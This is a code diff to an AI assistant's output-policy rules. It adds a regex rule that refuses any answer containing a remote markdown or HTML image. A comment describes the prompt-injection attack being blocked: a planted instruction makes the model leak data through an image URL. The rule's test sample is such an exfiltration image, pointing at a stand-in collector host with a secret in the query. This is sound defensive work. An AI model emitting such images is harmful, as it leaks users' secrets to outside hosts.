@@ -1,12 +1,13 @@
 """The output policy's rules, as data: shapes and topics an answer must not hold.
 
 ``SECRET_RULES`` apply to every profile (a key, a token, a private key or a value given as a
-password is never part of an answer, and an answer never asks the reader to hand a
-credential over); ``END_USER_RULES`` to end-user answers (the in-app profile): restricted topics
-(licences, code, databases, other users, hidden records, permission and ACL internals,
-cryptography), PHP and SQL shapes and environment-variable assignments. A match turns the
-whole answer into a refusal. Matched on the answer as written (case-insensitive unless a
-rule needs case).
+password is never part of an answer, an answer never asks the reader to hand a credential
+over, and never shows a remote image, whose address could carry data away);
+``END_USER_RULES`` to end-user answers (the in-app profile): restricted topics (licences,
+code, databases, other users, hidden records, permission and ACL internals, cryptography),
+PHP and SQL shapes and environment-variable assignments. A match turns the whole answer
+into a refusal. Matched on the answer as written (case-insensitive unless a rule needs
+case).
 """
 
 from __future__ import annotations
@@ -70,6 +71,14 @@ SECRET_RULES: tuple[Rule, ...] = (
          "https://sso.example/support.",
          "Send your API token in the Authorization header; we will never ask you to send "
          "your password to support."),
+    # A remote image in an answer is fetched by whatever shows it: its address can carry
+    # what the model read (an instruction planted in a page asks for exactly that).
+    # Answers never need one; a link is text a person chooses to follow.
+    Rule("output-remote-image", "output_exfiltration",
+         r"(?i)!\[[^\]\n]{0,200}\]\(\s*<?(?:https?:)?//|<img\b[^>]{0,200}?\bsrc\s*=\s*"
+         r"[\"']?(?:https?:)?//",
+         "Status: ![ok](https://collect.example/p.png?d=rp_secret)",
+         "The guide's Settings section has a screenshot of the page ([guide](guide.md))."),
 )
 
 END_USER_RULES: tuple[Rule, ...] = (
